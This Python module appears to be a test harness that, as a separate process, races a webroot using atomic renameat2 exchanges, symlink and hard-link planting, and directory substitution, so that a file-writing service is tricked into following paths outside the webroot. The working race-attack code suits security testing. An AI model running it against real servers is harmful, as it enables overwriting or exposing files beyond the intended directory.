"""Somebody with write access to a webroot who swaps what is in it, at full speed, for links that lead out of it.

A process of its own (this file is its program as well): a thread would share the interpreter's lock with its victim.
"""

import ctypes
import mmap
import os
import shutil
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

_AT_FDCWD = -100
_RENAME_EXCHANGE = 2
_COUNT = struct.Struct("Q")
_libc = ctypes.CDLL(None, use_errno=True)


@contextmanager
def attack(directory: Path, name: str, outside: Path) -> Iterator[Callable[[], int]]:
    """Exchange *directory* and its parent for links to *outside*, and plant links as *name*; counts the swaps.

    Afterwards all is in its place again.
    """
    directory.mkdir(parents=True, exist_ok=True)
    for link in _links(directory):
        link.symlink_to(outside)
    private_of(outside).mkdir(mode=0o700)
    (private_of(outside) / "diary").touch()
    shared = outside.with_name("shared")
    shared.write_bytes(bytes(2 * _COUNT.size))
    with shared.open("r+b") as file, mmap.mmap(file.fileno(), 0) as memory:
        argv = [sys.executable, __file__, str(directory), name, str(outside), str(shared)]
        with subprocess.Popen(argv, stdin=subprocess.DEVNULL) as attacker:
            try:
                yield lambda: int(_COUNT.unpack_from(memory, 0)[0])
            finally:
                _COUNT.pack_into(memory, _COUNT.size, 1)
                attacker.wait(timeout=30)


def _swap_until_told(directory: Path, name: str, outside: Path, memory: mmap.mmap) -> None:
    swaps = 0
    while not _COUNT.unpack_from(memory, _COUNT.size)[0]:
        for link, real in zip(_links(directory), (directory, directory.parent), strict=True):
            for _ in range(2):  # there, and back again
                swaps += _exchange(link, real)
        for planted in (name, f".{name}.certd"):
            swaps += _plant(directory / planted, outside / name)
        swaps += _slip_in(directory, private_of(outside))
        _COUNT.pack_into(memory, 0, swaps)


def _plant(place: Path, victim: Path) -> int:
    planted = 0
    for make in (os.symlink, os.link):
        with suppress(OSError):
            make(victim, place)
            planted += 1
        with suppress(OSError):
            place.unlink()
    return planted


def _slip_in(directory: Path, private: Path) -> int:
    """Take the directory away, wait for the new one, and put *private*, which others may not enter, in its place."""
    away, slipped = directory.with_name("away"), 0
    with suppress(OSError):
        directory.rename(away)
    for _ in range(100):
        if directory.exists():
            break
    with suppress(OSError):
        private.rename(directory)  # over an empty directory
        slipped += 1
    with suppress(OSError):
        if slipped:
            directory.rename(private)
    shutil.rmtree(directory, ignore_errors=True)
    with suppress(OSError):
        away.rename(directory)
    return slipped


def private_of(outside: Path) -> Path:
    """A directory of mode 0700 with a file in it, on the same file system."""
    return outside.with_name("private")


def _links(directory: Path) -> tuple[Path, Path]:
    return directory.with_name("swap"), directory.parent.with_name("swap")


def _exchange(one: Path, other: Path) -> bool:
    """Both names change places in one instant (renameat2)."""
    done: int = _libc.renameat2(_AT_FDCWD, os.fsencode(one), _AT_FDCWD, os.fsencode(other), _RENAME_EXCHANGE)
    return done == 0


if __name__ == "__main__":
    with Path(sys.argv[4]).open("r+b") as opened, mmap.mmap(opened.fileno(), 0) as mapped:
        _swap_until_told(Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3]), mapped)
